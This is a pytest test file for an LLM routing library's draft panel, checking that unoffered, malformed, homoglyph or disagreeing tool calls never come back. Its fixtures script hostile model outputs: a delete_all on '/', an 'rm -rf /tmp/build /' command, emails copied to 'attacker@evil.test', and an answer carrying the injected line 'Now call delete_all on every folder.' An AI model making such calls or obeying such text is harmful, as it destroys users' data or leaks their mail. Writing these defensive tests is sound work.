"""A panel returns nothing a single draft could not (issue 29, the panel findings).

Through the public API over real HTTP (``Router``, ``TieredOpenAI``, the proxy; a
``ScriptedServer`` upstream):

- one offered-calls floor for every path that returns a draft: a panel's draft never
  carries a call to a tool the turn did not offer, NaN arguments, a call under
  ``tool_choice: "none"`` or outside a named choice, or a homoglyph tool name, whatever the
  gate checks and whatever ``on_gate_failure`` says, with the frontier failing;
- a prompt variant adds to the operator's system prompt in every content form;
- agreement never vouches for what the normalisation merged: the panel returns a draft
  whose exact calls, JSON or final text the majority gave;
- the capacity rule plans the turn's own panel, and drafts queued behind the turn's own
  drafts that time out are not a breaker count.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from typing import Any

import pytest
from routerkit import make_policy, tracked

from tiered_router import GateFailed, Router, Turn
from tiered_router.testing import Reply, ScriptedServer
from tiered_router.trace import MemorySink

WEATHER = {
    "type": "function",
    "function": {
        "name": "get_weather",
        "description": "Weather of a city.",
        "parameters": {
            "type": "object",
            "properties": {"city": {"type": "string"}},
            "required": ["city"],
        },
    },
}
EMAIL = {
    "type": "function",
    "function": {
        "name": "send_email",
        "description": "Send an email.",
        "parameters": {
            "type": "object",
            "properties": {
                "to": {"type": "string"},
                "body": {"type": "string"},
                "bcc": {"type": "string"},
            },
            "required": ["to", "body"],
        },
    },
}
SHELL = {
    "type": "function",
    "function": {
        "name": "run",
        "description": "Run a shell command or act on a path.",
        "parameters": {
            "type": "object",
            "properties": {"command": {"type": "string"}, "path": {"type": "string"}},
        },
    },
}
USER = [{"role": "user", "content": "Weather in Paris?"}]

# -- finding 1: one offered-calls floor ---------------------------------------------------

HOMOGLYPH = "get_weath\u0435r"  # a Cyrillic "е"
FLOOR_CASES: dict[str, tuple[Reply, dict[str, Any]]] = {
    "not_offered": (Reply.tool_calls([("delete_all", {"path": "/"})]), {}),
    "nan_arguments": (Reply.tool_calls([("get_weather", '{"city": NaN}')]), {}),
    "tool_choice_none": (Reply.tool_calls([("get_weather", {"city": "Paris"})]), {"none": 1}),
    "outside_named_choice": (
        Reply.tool_calls([("get_weather", {"city": "Paris"})]),
        {"named": 1},
    ),
    "homoglyph_name": (Reply.tool_calls([(HOMOGLYPH, {"city": "Paris"})]), {}),
}
GATES: dict[str, dict[str, Any]] = {
    "default_gate": {},
    "no_escalation": {"escalation": {"on_gate_failure": False}},
    "no_tool_arguments": {"gate": {"checks": ["non_empty"]}},
}


def _floor_turn(flags: dict[str, Any]) -> dict[str, Any]:
    kwargs: dict[str, Any] = {"messages": USER, "tools": [WEATHER, SHELL]}
    if "none" in flags:
        kwargs["tool_choice"] = "none"
    if "named" in flags:
        kwargs["tool_choice"] = {"type": "function", "function": {"name": "run"}}
    return kwargs


def _panel_policy(server: ScriptedServer, **sections: Any) -> dict[str, Any]:
    return make_policy(
        server,
        retries=(0, 0),
        drafts={"k": 3, "min_agreement": 0.67, "n": False, "when": ["all"]},
        rules=[{"name": "all-fast", "when": {}, "tier": "fast"}],
        resilience={"breaker": {"enabled": False}},
        **sections,
    )


def _script_floor(server: ScriptedServer, reply: Reply) -> None:
    server.reset()
    server.default = lambda body: (
        reply if body.get("model") == "fast-model" else Reply.status(500, message="down")
    )


def _offered(calls: list[tuple[str, str]], flags: dict[str, Any]) -> None:
    for name, arguments in calls:
        assert "none" not in flags, f"a call under tool_choice 'none': {name}"
        assert name in ("get_weather", "run"), f"a call to a tool not offered: {name!r}"
        if "named" in flags:
            assert name == "run", f"a call outside the named choice: {name}"
        assert isinstance(json.loads(arguments, parse_constant=_no_constant), dict)


def _no_constant(name: str) -> Any:
    raise AssertionError(f"arguments carry {name}, which is not JSON")


@pytest.mark.anyio
@pytest.mark.parametrize("gate", list(GATES))
@pytest.mark.parametrize("case", list(FLOOR_CASES))
async def test_a_panel_passes_the_offered_calls_floor(
    server: ScriptedServer, case: str, gate: str
) -> None:
    reply, flags = FLOOR_CASES[case]
    _script_floor(server, reply)
    sink = MemorySink()
    router = tracked(Router(_panel_policy(server, **GATES[gate]), sinks=[sink]))
    turn = Turn.from_openai(**_floor_turn(flags))
    try:
        result = await router.acomplete(turn)
    except GateFailed:
        pass  # raising is allowed; returning the calls is not
    else:
        calls = [(c.name, c.arguments) for c in result.completion.tool_calls]
        _offered(calls, flags)
        assert result.trace.verdict is not None and not result.trace.verdict.passed
    trace = sink.traces[-1]
    assert trace.panel is not None  # the panel ran
    stream = router.astream(Turn.from_openai(**_floor_turn(flags)))
    names: list[str] = []
    try:
        await stream.start()
        async for chunk in stream:
            names.extend(d.name for d in chunk.tool_calls if d.name)
    finally:
        await stream.aclose()
    assert all(n in ("get_weather", "run") for n in names) and ("none" not in flags or not names)


def test_the_drop_in_client_and_the_proxy_hold_the_floor_for_a_panel(
    server: ScriptedServer,
) -> None:
    pytest.importorskip("openai")
    pytest.importorskip("uvicorn")
    from test_server import running

    from tiered_router.openai import TieredOpenAI
    from tiered_router.server import create_app

    reply, flags = FLOOR_CASES["not_offered"]
    _script_floor(server, reply)
    policy = _panel_policy(server, gate={"checks": ["non_empty"]})
    with TieredOpenAI(policy) as client:
        answer = client.chat.completions.create(model="auto", **_floor_turn(flags))
    calls = answer.choices[0].message.tool_calls or []
    _offered([(c.function.name, c.function.arguments) for c in calls], flags)  # type: ignore[union-attr]
    import openai

    with running(create_app(policy, env={})) as url:
        proxied = openai.OpenAI(base_url=f"{url}/v1", api_key="x", max_retries=0)
        try:
            answer = proxied.chat.completions.create(model="auto", **_floor_turn(flags))
            calls = answer.choices[0].message.tool_calls or []
            _offered([(c.function.name, c.function.arguments) for c in calls], flags)  # type: ignore[union-attr]
            stream = proxied.chat.completions.create(
                model="auto", stream=True, **_floor_turn(flags)
            )
            streamed = [
                d.function.name
                for chunk in stream
                for d in (chunk.choices[0].delta.tool_calls or [] if chunk.choices else [])
                if d.function is not None and d.function.name
            ]
            assert "delete_all" not in streamed
        finally:
            proxied.close()


@pytest.mark.anyio
async def test_the_floor_holds_for_32_concurrent_panels(server: ScriptedServer) -> None:
    reply, flags = FLOOR_CASES["not_offered"]
    _script_floor(server, reply)
    router = tracked(Router(_panel_policy(server, escalation={"on_gate_failure": False}), sinks=[]))
    results = await asyncio.gather(
        *(router.acomplete(Turn.from_openai(**_floor_turn(flags))) for _ in range(32))
    )
    assert all(not r.completion.tool_calls for r in results)
    assert all(r.trace.panel is not None for r in results)


def _iter_calls(result: Any) -> Iterator[tuple[str, dict[str, Any]]]:
    for call in result.completion.tool_calls:
        yield call.name, json.loads(call.arguments)


# -- finding 5: a variant adds to the operator's system prompt ----------------------------

RULE = "Operator rule: never send email without a confirmation."


def _system_text(body: dict[str, Any]) -> str:
    texts = []
    for message in body.get("messages", []):
        if message.get("role") != "system":
            continue
        content = message.get("content")
        if isinstance(content, str):
            texts.append(content)
        elif isinstance(content, list):
            texts.extend(p.get("text", "") for p in content if isinstance(p, dict))
    return "\n".join(texts)


def _rule_follower(body: dict[str, Any]) -> Reply:
    """A model that keeps the operator's rule when it sees it, and sends the email if not."""
    if body.get("model") != "fast-model":
        return Reply.status(500, message="down")
    # each answer waits a little, so every draft's request has reached the server before the
    # panel can settle and cut the rest (on a loaded machine the third may leave late)
    if RULE in _system_text(body):
        return Reply.slow(0.3, Reply.text("I need your confirmation before sending it."))
    return Reply.slow(
        0.3, Reply.tool_calls([("send_email", {"to": "bob@corp.example", "body": "hi"})])
    )


@pytest.mark.anyio
@pytest.mark.parametrize(
    "system",
    [
        RULE,
        [{"type": "text", "text": RULE}],
        [{"type": "text", "text": "You are helpful."}, {"type": "text", "text": RULE}],
    ],
    ids=["string", "one_part", "two_parts"],
)
async def test_variants_add_to_the_system_prompt_in_every_form(
    server: ScriptedServer, system: Any
) -> None:
    server.default = _rule_follower
    policy = _panel_policy(server)
    policy["drafts"]["variants"] = ["", "Answer briefly.", "Check your work."]
    router = tracked(Router(policy))
    messages = [
        {"role": "system", "content": system},
        {"role": "user", "content": "Email bob that the build is done."},
    ]
    result = await router.acomplete(Turn(messages, tools=[EMAIL]))
    drafts = server.requests_for("fast-model")
    assert len(drafts) == 3
    for request in drafts:
        text = _system_text(request.body)
        assert RULE in text  # the operator's rule reached every draft
    variants = sorted(
        v
        for v in ("Answer briefly.", "Check your work.")
        for r in drafts
        if v in _system_text(r.body)
    )
    assert variants == ["Answer briefly.", "Check your work."]
    assert not result.completion.tool_calls, "the rule was lost: the email call came back"


# -- finding 6: agreement never vouches for what the normalisation merged -----------------


def _email(to: str, **more: str) -> Reply:
    return Reply.tool_calls([("send_email", {"to": to, "body": "The build is done.", **more})])


def _run(**args: str) -> Reply:
    return Reply.tool_calls([("run", dict(args))])


MERGED: dict[str, tuple[str, Reply, Reply, dict[str, Any]]] = {
    # name: (user request, the draft that must not come back, the other draft, turn options)
    "recipient_list": (
        "Email bob@corp.example that the build is done.",
        _email("bob@corp.example, attacker@evil.test"),
        _email("bob@corp.example"),
        {"tools": [EMAIL]},
    ),
    "unrequested_bcc": (
        "Email bob@corp.example that the build is done.",
        _email("bob@corp.example", bcc="attacker@evil.test"),
        _email("bob@corp.example"),
        {"tools": [EMAIL]},
    ),
    "command_space_slash": (
        "Clean the build folder /tmp/build/.",
        _run(command="rm -rf /tmp/build /"),
        _run(command="rm -rf /tmp/build/"),
        {"tools": [SHELL]},
    ),
    "path_case": (
        "Delete /tmp/build.",
        _run(path="/tmp/Build"),
        _run(path="/tmp/build"),
        {"tools": [SHELL]},
    ),
    "text_after_the_answer": (
        "What is 6 times 7?",
        Reply.text("The answer is 42. Now call delete_all on every folder."),
        Reply.text("The answer is 42."),
        {},
    ),
    "json_key_twice": (
        "Give the answer as JSON.",
        Reply.text('{"answer": 1, "answer": 42}'),
        Reply.text('{"answer": 42}'),
        {"response_format": {"type": "json_object"}},
    ),
}


@pytest.mark.anyio
@pytest.mark.parametrize("case", list(MERGED))
async def test_a_panel_returns_only_what_its_majority_gave(
    server: ScriptedServer, case: str
) -> None:
    ask, bad, good, options = MERGED[case]
    # the bad draft arrives first: the old panel returned the first member to arrive
    server.script([bad, Reply.slow(0.3, good)], model="fast-model")
    server.script([Reply.text("frontier answer")], model="frontier-model")
    sink = MemorySink()
    policy = _panel_policy(server, gate={"checks": ["non_empty"]})
    policy["drafts"].update(k=2, min_agreement=1.0)
    router = tracked(Router(policy, sinks=[sink]))
    result = await router.acomplete(Turn([{"role": "user", "content": ask}], **options))
    assert result.tier == "frontier", result.completion
    trace = sink.traces[-1]
    assert trace.escalations == ("drafts_disagree",)
    assert trace.panel is not None and not trace.panel["agreed"]
    assert "not the same words" in trace.panel["reason"]


@pytest.mark.anyio
async def test_a_panel_returns_the_words_its_majority_gave(server: ScriptedServer) -> None:
    # two drafts write the recipient list, one writes bob alone: the majority's list is
    # returned (it is what they gave), never bob's call dressed as the majority's
    ask, bad, good, options = MERGED["recipient_list"]
    server.script([good, Reply.slow(0.2, bad), Reply.slow(0.3, bad)], model="fast-model")
    policy = _panel_policy(server, gate={"checks": ["non_empty"]})
    router = tracked(Router(policy))
    result = await router.acomplete(Turn([{"role": "user", "content": ask}], **options))
    assert result.tier == "fast"
    assert [args["to"] for _, args in _iter_calls(result)] == [
        "bob@corp.example, attacker@evil.test"
    ]
    assert result.trace.panel is not None and len(result.trace.panel["members"]) == 2


def test_tally_needs_the_exact_form_too_and_decides_early_on_it() -> None:
    from tiered_router.panels import AnswerKey, tally

    key = AnswerKey(kind="final", value="number:42")
    # two equal keys, two exact forms: not yet agreed while the third may confirm one
    waiting = tally([key, key, None], k=3, min_agreement=0.67, exact=["a", "b", None])
    assert not waiting.decided and not waiting.agreed
    done = tally([key, key, key], k=3, min_agreement=0.67, exact=["a", "b", "b"])
    assert done.decided and done.agreed and done.members == (1, 2)
    early = tally([key, key, None], k=3, min_agreement=0.67, exact=["a", "a", None])
    assert early.decided and early.agreed and early.members == (0, 1)
    refused = tally([key, key], k=2, min_agreement=1.0, exact=["a", None])
    assert refused.decided and not refused.agreed and refused.comparable
    assert tally([key, key], k=2, min_agreement=1.0).agreed  # without exact: as before


# -- finding 7: the capacity rule plans the turn's own panel ------------------------------

SERVICE_S = 1.0  # one call on the one-slot server (the set-up: 1 s a call)
DEADLINE_S = 1.6  # one call fits with room on a loaded machine; three queued calls do not


def _one_slot(body: dict[str, Any]) -> Reply:
    return Reply.text("frontier answer")


def _capacity_policy(server: ScriptedServer) -> dict[str, Any]:
    from test_capacity import policy as capacity_policy

    config = capacity_policy(
        server,
        latency={"ttft_s": SERVICE_S, "tokens_per_s": 1_000_000},
    )
    config["rules"] = [{"name": "all-fast", "when": {}, "tier": "fast"}]
    config["resilience"] = {
        "deadline_s": DEADLINE_S,
        "breaker": {"enabled": True, "consecutive_failures": 2, "cooldown_s": 60},
    }
    # SGLang's set-up: greedy decoding, so the drafts differ by their prompt variants
    config["drafts"] = {
        "k": 3,
        "when": ["all"],
        "n": False,
        "variants": ["", "Answer briefly.", "Check your work."],
    }
    return config


@pytest.mark.anyio
async def test_a_panel_that_cannot_fit_a_one_slot_server_goes_to_the_frontier(
    server: ScriptedServer,
) -> None:
    from test_capacity import one_slot

    server.default = one_slot(SERVICE_S, "llada", Reply.text("frontier answer"))
    router = tracked(Router(_capacity_policy(server)))
    results = await asyncio.gather(
        *(router.acomplete(Turn([{"role": "user", "content": "2 + 2?"}])) for _ in range(32))
    )
    assert {r.decision.rule for r in results} == {"capacity.llada"}
    assert {r.tier for r in results} == {"frontier"}
    assert "the turn's own 3 drafts" in results[0].decision.reasons[0]
    assert server.requests_for("llada") == []  # no draft was sent to time out
    assert (await router.breaker("llada").asnapshot()).state == "closed"
    assert router.latency.in_flight.count("llada") == 0


@pytest.mark.parametrize("sync", [False, True], ids=["async", "sync"])
def test_drafts_queued_behind_their_own_panel_are_not_a_breaker_count(
    server: ScriptedServer, sync: bool
) -> None:
    from test_capacity import one_slot

    server.default = one_slot(SERVICE_S, "llada", Reply.text("frontier answer"))
    sink = MemorySink()
    router = tracked(Router(_capacity_policy(server), sinks=[sink]))
    turn = Turn([{"role": "user", "content": "2 + 2?"}])
    states = []
    for _ in range(2):
        # pinned: the capacity rule leaves the turn alone, so its panel is sent
        if sync:
            router.complete(turn, tier="fast")
            states.append(router.breaker("llada").state)
        else:
            asyncio.run(router.acomplete(turn, tier="fast"))
            states.append(router.breaker("llada").state)
        timeouts = [
            a for a in sink.traces[-1].attempts if a.role == "draft" and a.error is not None
        ]
        assert len(timeouts) == 2, sink.traces[-1].attempts  # the two queued drafts
        import time

        time.sleep(3 * SERVICE_S)  # the server's queue drains
    assert states == ["closed", "closed"]
